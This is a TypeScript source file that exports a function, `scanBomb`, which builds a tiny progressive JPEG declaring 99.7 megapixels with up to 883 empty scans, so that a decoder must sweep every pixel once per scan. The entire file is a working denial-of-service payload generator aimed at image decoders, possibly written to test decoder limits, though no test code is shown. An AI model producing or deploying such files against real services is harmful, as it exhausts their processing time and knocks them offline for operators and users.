/** Blocks of 8 × 8 pixels on each side: 9,984 px, so that the photo has 99.7 MP. */
const BLOCKS_PER_SIDE = 1248;
const BLOCK_PX = 8;
/** The longest run of empty blocks that one code can encode: 2^14 plus 14 extra bits (ITU-T T.81, G.1.2.2). */
const RUN_BITS = 14;
const LONGEST_RUN = 2 ** (RUN_BITS + 1) - 1;
const RUN_SYMBOL = RUN_BITS << 4;
/** The AC coefficients of a block, and the highest bit from which successive scans refine each of them. */
const COEFFICIENTS = 63;
const HIGHEST_BIT = 13;

function segment(marker: number, payload: readonly number[]): Buffer {
  const length = payload.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...payload]);
}

/** Packs bits into bytes, padded with ones, with a zero byte stuffed after each 0xFF. */
function pack(bits: string): Buffer {
  const padded = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1');
  const bytes: number[] = [];
  for (let at = 0; at < padded.length; at += 8) {
    const byte = Number.parseInt(padded.slice(at, at + 8), 2);
    bytes.push(byte, ...(byte === 0xff ? [0] : []));
  }
  return Buffer.from(bytes);
}

/** One scan in which every block is empty. */
function emptyScan(): Buffer {
  let left = BLOCKS_PER_SIDE ** 2;
  let bits = '';
  while (left > 0) {
    const run = Math.min(left, LONGEST_RUN);
    if (run < 2 ** RUN_BITS) throw new RangeError('the rest needs a shorter code');
    // The Huffman table has one code, a single 0 bit.
    bits += `0${(run - 2 ** RUN_BITS).toString(2).padStart(RUN_BITS, '0')}`;
    left -= run;
  }
  return pack(bits);
}

const scanHeader = (coefficient: number, high: number, low: number) =>
  segment(0xda, [1, 1, 0, coefficient, coefficient, (high << 4) | low]);

/**
 * Builds a valid, empty grayscale progressive JPEG of 99.7 MP. A decoder has to visit all of its pixels once per
 * scan: about 35 ms of work for 110 bytes.
 * @param scans 2 to 883
 */
export function scanBomb(scans: number): Buffer {
  const side = BLOCKS_PER_SIDE * BLOCK_PX;
  const size = [side >> 8, side & 0xff];
  const counts = [1, ...Array<number>(15).fill(0)];
  const first = [scanHeader(0, 0, 0), pack('0'.repeat(BLOCKS_PER_SIDE ** 2))];
  const further: Buffer[] = [];
  const empty = emptyScan();
  for (let coefficient = 1; coefficient <= COEFFICIENTS; coefficient += 1) {
    for (let low = HIGHEST_BIT; low >= 0; low -= 1) {
      const high = low === HIGHEST_BIT ? 0 : low + 1;
      further.push(Buffer.concat([scanHeader(coefficient, high, low), empty]));
    }
  }
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, [8, ...size, ...size, 1, 1, 0x11, 0]),
    segment(0xc4, [0x00, ...counts, 0]),
    segment(0xc4, [0x10, ...counts, RUN_SYMBOL]),
    ...first,
    ...further.slice(0, scans - 1),
    Buffer.from([0xff, 0xd9]),
  ]);
}
